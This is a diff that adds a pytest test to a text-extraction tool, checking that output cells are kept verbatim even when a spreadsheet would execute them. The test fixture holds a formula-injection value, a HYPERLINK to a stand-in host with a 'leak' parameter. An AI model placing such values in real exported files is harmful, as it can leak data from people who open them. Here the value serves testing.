@@ -10,6 +10,7 @@ import time
 from pathlib import Path
 
 import pytest
+from conftest import read_table
 
 from analysis.paths import ROOT, SEEDS
 from analysis.text.corpus import InputError
@@ -635,3 +636,18 @@ def test_a_megabyte_sentence_is_cut_with_a_warning(tmp_path, run, offsets_hold, 
     offsets_hold(tmp_path / "out", {"doc": text})
     code, _, err = run("extract", tmp_path / "in", "--out", tmp_path / "strict", "--strict")
     assert code == 2 and "cut into pieces" in err[0] and "--strict" in err[0]
+
+
+def test_cells_are_verbatim_even_when_a_spreadsheet_would_run_them(tmp_path, run, offsets_hold):
+    """The stated policy (README, 'Spreadsheet formulas'): no cell is altered, so every
+    quote still equals its document slice."""
+    title = '=HYPERLINK("http://example.invalid/?leak","open")'
+    text = "- A BYLINE HERE\n@someone said US forces were attacked on Friday.\n+3 drones were shot down on Jan. 11.\n"
+    write_doc(tmp_path / "in", text=text, meta=META.replace("title: A test", f"title: '{title}'"))
+    code, _, err = run("extract", tmp_path / "in", "--out", tmp_path / "out")
+    assert (code, err) == (0, [])
+    documents = read_table(tmp_path / "out", "documents")
+    assert documents[0]["title"] == title
+    quotes = {r["quote"] for r in read_table(tmp_path / "out", "claims")}
+    assert any(q.startswith(("-", "@", "+")) for q in quotes), quotes
+    offsets_hold(tmp_path / "out", {"doc": text})
